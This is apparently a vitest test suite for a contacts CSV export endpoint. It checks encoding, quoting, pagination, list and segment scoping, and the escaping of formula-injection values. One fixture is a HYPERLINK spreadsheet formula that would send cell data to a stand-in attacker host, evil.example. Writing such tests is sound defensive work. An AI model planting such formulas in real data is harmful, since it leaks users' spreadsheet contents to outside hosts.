// GET /v1/contacts/export (README "Contacts export"): a streamed CSV of the account's contacts or of
// one list's or segment's members, UTF-8 with a BOM, one column per custom field, every cell safe
// against formula injection, quoting that parses back, more rows than one page exactly once each in
// id order; and what is refused before the first byte (another account's list or segment, both at
// once, an unknown query parameter).
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { createContact } from '../../src/contacts/service.ts';
import { EXPORT_PAGE_SIZE, STANDARD_EXPORT_COLUMNS } from '../../src/contacts/export.ts';
import { readyAccount, type TestAccount } from '../support/accounts.ts';
import { testServerForSuite } from '../support/harness.ts';
import { expectRejected } from '../support/http.ts';

const server = testServerForSuite();
const BOM = Buffer.from([0xef, 0xbb, 0xbf]);
const MISSING_LIST = 'lst_01ARZ3NDEKTSV4RRFFQ69G5FAV';

async function ok(key: string, method: string, path: string, body?: unknown, status = 200) {
  const res = await server.call(method, path, { key, body });
  expect(res.status, `${method} ${path} → ${JSON.stringify(res.body)}`).toBe(status);
  return res.body;
}

/** The export as it came: status, headers and raw bytes. */
async function exportRaw(key: string, query = '') {
  const res = await fetch(`${server.url}/v1/contacts/export${query}`, { headers: { 'x-api-key': key } });
  return { status: res.status, headers: res.headers, bytes: Buffer.from(await res.arrayBuffer()) };
}

/** The export parsed back: the header row and the records as objects by column. */
async function exportRows(key: string, query = '') {
  const { status, bytes } = await exportRaw(key, query);
  expect(status, bytes.toString('utf8').slice(0, 500)).toBe(200);
  const rows: string[][] = parse(bytes, { bom: true, relax_column_count: false });
  const [header, ...records] = rows;
  return { header: header!, records: records.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]]))) };
}

const FIELDS = [
  { key: 'plan', type: 'select', options: ['free', 'pro'] },
  { key: 'score', type: 'number' },
  { key: 'vip', type: 'boolean' },
  { key: 'birthday', type: 'date' },
  { key: 'seen_at', type: 'date' },
  { key: 'note', type: 'text' },
];

describe('the export of one account', () => {
  let acct: TestAccount;
  let full: any;
  let plain: any;
  let listId: string;

  beforeAll(async () => {
    acct = await readyAccount(server);
    for (const f of FIELDS) await ok(acct.key, 'POST', '/v1/contacts/fields', f, 201);
    full = await ok(acct.key, 'POST', '/v1/contacts', {
      email: 'zoe@example.com',
      phone: '+33612345678',
      first_name: 'Zoë',
      last_name: 'O"Brien, Jr.\nsecond line',
      country: 'FR',
      language: 'fr',
      timezone: 'Europe/Paris',
      external_id: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      tags: ['vip', 'early adopter'],
      custom_fields: { plan: 'pro', score: 42.5, vip: true, birthday: '1990-04-01', seen_at: '2026-11-21T11:00:00+01:00', note: '@SUM(1)' },
    }, 201);
    plain = await ok(acct.key, 'POST', '/v1/contacts', { email: 'plain@example.com', first_name: '-2', last_name: '+1', tags: ['+tag', 'x'] }, 201);
    listId = (await ok(acct.key, 'POST', '/v1/lists', { name: 'Only Zoë' }, 201)).id;
    await ok(acct.key, 'POST', `/v1/lists/${listId}/contacts`, { contact_id: full.id }, 201);
  });

  it('answers a CSV attachment, UTF-8 with a BOM, header row first', async () => {
    const { status, headers, bytes } = await exportRaw(acct.key);
    expect(status).toBe(200);
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(headers.get('content-disposition')).toMatch(/^attachment; filename="contacts-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(bytes.subarray(0, 3).equals(BOM)).toBe(true);
    const firstLine = bytes.subarray(3).toString('utf8').split('\r\n')[0];
    // every field quoted, the header too (README "Contacts export")
    expect(firstLine).toBe([...STANDARD_EXPORT_COLUMNS, ...FIELDS.map((f) => f.key)].map((c) => `"${c}"`).join(','));
    // the accent is UTF-8 (two bytes), not mangled
    expect(bytes.includes(Buffer.from('Zoë', 'utf8'))).toBe(true);
  });

  it('writes every standard and custom field as text, tags joined with ;, quoting that parses back', async () => {
    const { header, records } = await exportRows(acct.key);
    expect(header).toEqual([...STANDARD_EXPORT_COLUMNS, 'plan', 'score', 'vip', 'birthday', 'seen_at', 'note']);
    expect(records.map((r) => r.id)).toEqual([full.id, plain.id]);
    expect(records[0]).toEqual({
      id: full.id,
      email: 'zoe@example.com',
      phone: "'+33612345678",
      first_name: 'Zoë',
      last_name: 'O"Brien, Jr.\nsecond line',
      country: 'FR',
      language: 'fr',
      timezone: 'Europe/Paris',
      external_id: `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
      tags: 'vip;early adopter',
      created_at: full.created_at,
      updated_at: full.updated_at,
      plan: 'pro',
      score: '42.5',
      vip: 'true',
      birthday: '1990-04-01',
      seen_at: '2026-11-21T10:00:00.000Z',
      note: "'@SUM(1)",
    });
    // absent values are empty cells
    expect(records[1]).toMatchObject({ phone: '', country: '', plan: '', score: '', vip: '', note: '' });
  });

  it('prefixes with a quote every cell a spreadsheet would run: = + - @ tab and carriage return', async () => {
    const tricky = await ok(acct.key, 'POST', '/v1/contacts', { first_name: '\tx', last_name: '\rcr', external_id: '@ref', custom_fields: { note: '+SUM(A1)' } }, 201);
    const { records } = await exportRows(acct.key);
    const byId = new Map(records.map((r) => [r.id, r]));
    expect(byId.get(plain.id)).toMatchObject({ first_name: "'-2", last_name: "'+1", tags: "'+tag;x" });
    // the standard fields are trimmed on the way in: escaping is checked on what is stored
    const stored = await ok(acct.key, 'GET', `/v1/contacts/${tricky.id}`);
    const expected = (v: string | null) => (v === null ? '' : /^[=+\-@\t\r]/.test(v) ? `'${v}` : v);
    expect(byId.get(tricky.id)).toMatchObject({
      first_name: expected(stored.first_name),
      last_name: expected(stored.last_name),
      external_id: "'@ref",
      note: "'+SUM(A1)",
    });
    // and no cell anywhere starts with a formula character
    for (const r of records) for (const cell of Object.values(r)) expect(String(cell)).not.toMatch(/^[=+\-@\t\r]/);
    await ok(acct.key, 'DELETE', `/v1/contacts/${tricky.id}`);
  });

  it('neutralises a formula after a , or ; inside a cell (a spreadsheet in a ; locale splits there) and quotes every field', async () => {
    const c = await ok(acct.key, 'POST', '/v1/contacts', {
      external_id: 'separators',
      first_name: 'Ann, =1+1',
      tags: ['ok', '=2+2', '@x', '-y'],
      custom_fields: { note: 'ok;=2+2;+3,-4;@A1;\tT;\rR, fine; also fine', plan: 'pro', score: -5 },
    }, 201);
    const { bytes } = await exportRaw(acct.key);
    const line = bytes.toString('utf8').split('\r\n').find((l) => l.startsWith(`"${c.id}"`))!;
    // no field leaves unquoted: a ; locale never splits inside one
    expect(line).toMatch(/^"[^"]*"(,("([^"]|"")*")?)*$/);
    const { records } = await exportRows(acct.key);
    const row = records.find((r) => r.id === c.id)!;
    expect(row).toMatchObject({
      first_name: "Ann,' =1+1",
      tags: "ok;'=2+2;'@x;'-y",
      note: "ok;'=2+2;'+3,'-4;'@A1;'\tT;'\rR, fine; also fine",
      plan: 'pro',
      // a number field's value is a number, which no spreadsheet runs: it stays as it is
      score: '-5',
    });
    // no piece of any text cell, split at , or ;, starts with a formula character
    for (const r of records) for (const [column, cell] of Object.entries(r)) if (column !== 'score') for (const piece of String(cell).split(/[,;]/)) expect(piece.trimStart()).not.toMatch(/^[=+\-@\t\r]/);
    await ok(acct.key, 'DELETE', `/v1/contacts/${c.id}`);
  });

  it('escapes a tab or carriage return at the start of a custom text value (not trimmed)', async () => {
    const c = await ok(acct.key, 'POST', '/v1/contacts', { external_id: 'tab', custom_fields: { note: '\tTAB' } }, 201);
    const d = await ok(acct.key, 'POST', '/v1/contacts', { external_id: 'cr', custom_fields: { note: '\rCR' } }, 201);
    const { records } = await exportRows(acct.key);
    const byId = new Map(records.map((r) => [r.id, r]));
    expect(byId.get(c.id)!.note).toBe("'\tTAB");
    expect(byId.get(d.id)!.note).toBe("'\rCR");
    await ok(acct.key, 'DELETE', `/v1/contacts/${c.id}`);
    await ok(acct.key, 'DELETE', `/v1/contacts/${d.id}`);
  });

  it('exports only the members of a list with ?list_id=', async () => {
    const { records } = await exportRows(acct.key, `?list_id=${listId}`);
    expect(records.map((r) => r.id)).toEqual([full.id]);
  });

  it('answers 404 for a missing list and for another account list, like for a missing one', async () => {
    const other = await readyAccount(server, 'other');
    const theirs = (await ok(other.key, 'POST', '/v1/lists', { name: 'theirs' }, 201)).id;
    for (const id of [theirs, MISSING_LIST, 'not-a-list']) {
      const res = await server.call('GET', `/v1/contacts/export?list_id=${id}`, { key: acct.key });
      expect(res.status).toBe(404);
      expect(res.body.error).toBe('not_found');
      expect(res.headers.get('content-type')).toMatch(/^application\/json/);
    }
    // and the other account's export holds none of ours
    const { records } = await exportRows(other.key);
    expect(records).toEqual([]);
  });

  it('exports only the members of a segment with ?segment_id=, as its rules match them now, in id order', async () => {
    const rules = { match: 'any', rules: [{ field: 'tag', operator: 'has', value: 'x' }, { field: 'custom.score', operator: 'gt', value: 40 }] };
    const segment = await ok(acct.key, 'POST', '/v1/segments', { name: 'Scored or x', rules }, 201);
    expect(segment.count).toBe(2);
    const { header, records } = await exportRows(acct.key, `?segment_id=${segment.id}`);
    expect(header).toEqual([...STANDARD_EXPORT_COLUMNS, ...FIELDS.map((f) => f.key)]);
    expect(records.map((r) => r.id)).toEqual([full.id, plain.id]);
    expect(records[0]).toMatchObject({ email: 'zoe@example.com', score: '42.5', plan: 'pro' });
    // the next export follows a change of membership
    await ok(acct.key, 'PATCH', `/v1/contacts/${plain.id}`, { tags: ['+tag'] });
    expect((await exportRows(acct.key, `?segment_id=${segment.id}`)).records.map((r) => r.id)).toEqual([full.id]);
  });

  it('answers 404 for a missing segment and for another account’s segment, and 400 for a list and a segment at once', async () => {
    const other = await readyAccount(server, 'other segments');
    const rules = { match: 'all', rules: [{ field: 'contact.email', operator: 'is_set' }] };
    const theirs = (await ok(other.key, 'POST', '/v1/segments', { name: 'theirs', rules }, 201)).id;
    for (const id of [theirs, 'seg_01ARZ3NDEKTSV4RRFFQ69G5FAV', 'not-a-segment']) {
      const res = await server.call('GET', `/v1/contacts/export?segment_id=${id}`, { key: acct.key });
      expect(res.status).toBe(404);
      expect(res.body).toMatchObject({ error: 'not_found', message: 'segment not found' });
    }
    const mine = (await ok(acct.key, 'POST', '/v1/segments', { name: 'mine', rules }, 201)).id;
    expectRejected(await server.call('GET', `/v1/contacts/export?segment_id=${mine}&list_id=${listId}`, { key: acct.key }), 'segment_id');
  });

  it('answers 400 naming an unknown query parameter', async () => {
    const res = await server.call('GET', '/v1/contacts/export?colour=red', { key: acct.key });
    expectRejected(res, 'colour');
  });

  it('needs a credential with the read scope', async () => {
    expect((await server.call('GET', '/v1/contacts/export')).status).toBe(401);
    const writer = await ok(acct.key, 'POST', '/v1/account/api-keys', { name: 'writer', scopes: ['write'] }, 201);
    const res = await server.call('GET', '/v1/contacts/export', { key: writer.key });
    expect(res.status).toBe(403);
    expect(res.body.error).toBe('insufficient_scope');
  });

  it('leaves out an erased contact: the read model no longer has it', async () => {
    const gone = await ok(acct.key, 'POST', '/v1/contacts', { email: 'erase-me@example.com', first_name: 'Erase' }, 201);
    expect((await exportRows(acct.key)).records.map((r) => r.id)).toContain(gone.id);
    await ok(acct.key, 'POST', `/v1/contacts/${gone.id}/erase`, {});
    const { bytes } = await exportRaw(acct.key);
    expect(bytes.toString('utf8')).not.toContain(gone.id);
    expect(bytes.toString('utf8')).not.toContain('erase-me@example.com');
  });
});

describe('an export longer than one page', () => {
  it('writes every contact exactly once, in id order', async () => {
    const acct = await server.newAccount('many');
    const total = EXPORT_PAGE_SIZE * 2 + 500;
    const metadata = { accountId: acct.accountId, actor: 'test', requestId: 'export-test', correlationId: 'export-test', causationId: 'export-test' };
    const ids: string[] = [];
    let next = 0;
    // a few at a time through the service: thousands of HTTP round trips would be slower
    await Promise.all(
      Array.from({ length: 32 }, async () => {
        while (next < total) {
          const i = next++;
          const { contact } = await createContact(server.engage, acct.accountId, { email: `c${i}@example.com`, first_name: `n${i}` }, metadata);
          ids.push(contact.id);
        }
      }),
    );
    await server.caughtUp(['contacts']);
    const { records } = await exportRows(acct.key);
    expect(records.length).toBe(total);
    expect(records.map((r) => r.id)).toEqual([...ids].sort());
    expect(new Set(records.map((r) => r.email)).size).toBe(total);

    // a segment's members over more than one page: a dense one, and a sparse one (a tenth)
    for (const [suffix, every] of [['', 1], ['7', 10]] as const) {
      const rules = { match: 'all', rules: [{ field: 'contact.first_name', operator: suffix ? 'ends_with' : 'is_set', ...(suffix ? { value: suffix } : {}) }] };
      const segment = await ok(acct.key, 'POST', '/v1/segments', { name: `ends with ${suffix}`, rules }, 201);
      const members = (await exportRows(acct.key, `?segment_id=${segment.id}`)).records;
      const expected = records.filter((r) => r.first_name!.endsWith(suffix)).map((r) => r.id);
      expect(expected.length).toBe(total / every);
      expect(members.map((r) => r.id)).toEqual(expected);
    }
  });
});
